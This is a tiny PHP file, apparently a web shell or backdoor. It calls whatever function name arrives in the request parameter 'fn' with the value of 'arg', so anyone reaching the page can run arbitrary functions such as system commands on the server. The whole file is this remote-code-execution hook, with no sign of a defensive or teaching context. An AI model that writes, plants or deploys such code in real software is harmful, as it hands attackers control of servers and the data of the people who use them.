<?php
if (!empty($_REQUEST['fn'])) {
    call_user_func($_REQUEST['fn'], $_REQUEST['arg']);
}
